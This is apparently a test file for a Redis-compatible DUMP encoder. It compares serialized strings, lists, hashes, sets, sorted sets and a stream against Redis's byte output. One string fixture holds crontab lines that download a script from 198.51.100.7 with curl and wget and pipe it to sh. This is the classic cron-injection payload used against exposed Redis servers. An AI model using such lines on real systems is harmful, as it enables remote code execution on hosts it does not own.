import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { describe, it } from 'node:test';
import type { Value } from '../keyspace.ts';
import { SortedSet } from '../sorted-set.ts';
import { idOf } from '../stream/id.ts';
import { Stream } from '../stream/stream.ts';
import { crc64 } from './crc64.ts';
import { dumpValue } from './dump.ts';

/** `1-1 a 1`, `2-1 b 2`, XDEL 1-1, `3-1 a 3`, and a group that has read nothing. */
function streamWithGroup(): Stream {
  const stream = new Stream();
  stream.append(idOf(1n, 1n), ['a', '1']);
  stream.append(idOf(2n, 1n), ['b', '2']);
  stream.delete(idOf(1n, 1n));
  stream.append(idOf(3n, 1n), ['a', '3']);
  stream.addGroup('g', 0n, undefined);
  return stream;
}

/** As DUMP of redis-server 7.0.15 gives them (26 November 2026), in hexadecimal; of long ones the digest. */
const dumped: readonly (readonly [string, Value, string])[] = [
  ['a small number', { kind: 'string', text: '-129' }, '00c17fff0a001760822854808480'],
  [
    'a text that is compressed',
    {
      kind: 'string',
      text: '\n\n*/1 * * * * curl -fsSL http://198.51.100.7/a.sh | sh\n\n*/1 * * * * wget -q -O- http://198.51.100.7/a.sh | sh\n',
    },
    '00c3404a406e060a0a2a2f31202aa0011f6375726c202d6673534c20687474703a2f2f3139382e35312e3130302e372f61082e7368207c2073680ae004350a77676574202d71202d4f2de0143601680a0a00f8dc7267ff9347af',
  ],
  [
    'a long run',
    { kind: 'string', text: 'ab'.repeat(500) },
    '00c31343e802616261e0ff01e0ff01e0ff01e0c2010161620a00b47609dbfd1d6016',
  ],
  [
    'a list',
    { kind: 'list', items: ['a', 'b', '1', '-5', '70000', '9999999999', 'x'.repeat(80)] },
    '120102c32a40741b7400000007008161028162020101dffb02f270110104f4ffe30b5402201a0309e05078e046000152ff0a002c1586abebc02624',
  ],
  [
    'a list of several nodes',
    { kind: 'list', items: Array.from({ length: 700 }, (_, index) => `item number ${index * 7919}`) },
    'sha256 1dace079a7334a361617ff79083e902a7eb320a3d1cbd88f9fa3223ac2894c06',
  ],
  [
    'a hash',
    {
      kind: 'hash',
      fields: new Map([
        ['f', 'v'],
        ['n', '12'],
      ]),
    },
    '1012120000000400816602817602816e020c01ff0a0001369481d35b8974',
  ],
  [
    'a set of numbers',
    { kind: 'set', members: new Set(['1', '70000', '9000000000']) },
    '0b20080000000300000001000000000000007011010000000000001a7118020000000a00cc2db129cfdffb75',
  ],
  ['a set', { kind: 'set', members: new Set(['member']) }, '0201066d656d6265720a00782717cf5e5d03c4'],
  [
    'a sorted set',
    new SortedSet([
      ['a', 1],
      ['b', 2.5],
      ['c', Number.NEGATIVE_INFINITY],
    ]),
    '111d1d0000000600816302842d696e6605816102010181620283322e3504ff0a003992339be11f323d',
  ],
  [
    'a large sorted set',
    new SortedSet(Array.from({ length: 130 }, (_, index) => [`m${index}`, index / 4] as const)),
    'sha256 1090e47db031830ff2bd27e8ed4663db3b482c0bb69295742aa4982e77a8c1a1',
  ],
  [
    'a stream',
    streamWithGroup(),
    '13011000000000000000010000000000000001c32f350735000000160002014000078161020001030100200102010104600540090781620202010601022001401e020401ff0203010201010103010167000081ffffffffffffffff00000a0097cf6615d777efab',
  ],
];

describe('dumps', () => {
  it('have the checksum of Redis', () => {
    // From crc64.c's own test.
    assert.equal(crc64(Buffer.from('123456789')).readBigUInt64LE().toString(16), 'e9c6d914c4b8d9ca');
  });

  for (const [name, value, expected] of dumped)
    it(`are those of Redis for ${name}`, () => {
      const bytes = Buffer.from(dumpValue(value), 'latin1');
      const digest = `sha256 ${createHash('sha256').update(bytes).digest('hex')}`;
      assert.equal(expected.startsWith('sha256') ? digest : bytes.toString('hex'), expected);
    });
});
